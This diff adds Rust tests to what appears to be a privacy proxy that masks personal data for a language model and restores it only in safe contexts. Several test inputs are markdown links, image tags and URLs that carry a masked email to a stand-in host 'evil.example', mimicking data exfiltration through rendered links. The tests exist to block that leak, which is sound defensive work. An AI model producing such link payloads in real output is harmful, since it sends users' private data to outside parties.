@@ -100,6 +100,75 @@ fn what_is_put_into_json_among_words_is_escaped() {
     assert_eq!(text, expected);
 }
 
+/// The lines of a tool's result, of which the model repeats one in a call, as the call writes them.
+fn repeated(result: &str, line: usize) -> String {
+    let fake = Fake::start(move |request, talk| {
+        let request: Value = serde_json::from_slice(&request.body).unwrap();
+        let seen = request["messages"][1]["content"].as_str().unwrap();
+        assert!(!seen.contains("jane") && !seen.contains("Jane") && !seen.contains("Wren"), "{seen}");
+        let arguments = json!({"path": "a", "old_str": seen.lines().nth(line).unwrap()}).to_string();
+        let calls =
+            json!([{"index": 0, "id": "d", "type": "function", "function": {"name": "edit", "arguments": arguments}}]);
+        talk.json(
+            &json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": calls}}]}).to_string(),
+        );
+        Then::Keep
+    });
+    let proxy = proxy(&[&fake], "deny_list = [{ text = \"Jane Roe\", label = \"PERSON\" }]");
+    let messages = json!([
+        {"role": "assistant", "content": null,
+         "tool_calls": [{"id": "c", "type": "function", "function": {"name": "read", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "c", "content": result},
+    ]);
+    let body = json!({"model": "m", "messages": messages}).to_string();
+    let answer = ask(&proxy, post("/v1/chat/completions", "Authorization: Bearer sk\r\n", &body)).json();
+    let arguments = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
+    let arguments: Value = serde_json::from_str(arguments).unwrap();
+    arguments["old_str"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn what_only_looks_like_a_link_comes_back_in_files() {
+    for line in [
+        "app[123]: user=jane.roe@example.com ok=1",
+        "[x]: user=Jane Roe a/b http://x.example.com/",
+        "href = 'Jane Roe'",
+        "src=\"Jane Roe\"",
+        "<img src=jane.roe@example.com>",
+        "url(jane.roe@example.com)",
+        "handlers[name](\"jane.roe@example.com\")",
+        "**https://sync:Wren-71-lantern@example.com/a**",
+        "__https://example.com/a?u=jane.roe@example.com__",
+        "~~postgres://app:Wren-71-lantern@db.example.com/a~~",
+        "{\"u\": \"https:\\/\\/example.com\\/jane.roe@example.com\"}",
+    ] {
+        for text in [format!("{line}\n"), format!("x = 1\n{line}\nhttps://example.com/ a")] {
+            let at = text.lines().position(|known| known == line).unwrap();
+            assert_eq!(repeated(&text, at), line);
+        }
+    }
+}
+
+#[test]
+fn new_code_of_the_model_is_no_link_and_links_of_it_get_nothing() {
+    let messages = json!([{"role": "user", "content": format!("I am {EMAIL}")}]);
+    for (words, is_restored) in [
+        ("handlers[name](\"E\")", true),
+        ("arr[i](user=E)", true),
+        ("arr[0]: name=\"E\"", true),
+        ("- [ ]: a=E", true),
+        ("src = \"E\"", true),
+        ("[name](x?user=E)", false),
+        ("[x]: /\\evil.example/?q=E", false),
+        ("<img alt='>' src=\"x?E\">", false),
+        ("src = \"/\\evil.example/?q=E\"", false),
+        ("![a](\"https://evil.example/?q=E\")", false),
+    ] {
+        let (text, _) = said(&messages, &words.replace('E', "[EMAIL_ADDRESS_1]"), "");
+        assert_eq!(text.contains(EMAIL), is_restored, "{text}");
+    }
+}
+
 /// The answer to a call of a tool with these arguments, of a route that refuses such calls.
 fn called(arguments: &str, is_streamed: bool) -> crate::common::raw::Response {
     let function = json!({"name": "write", "arguments": arguments});
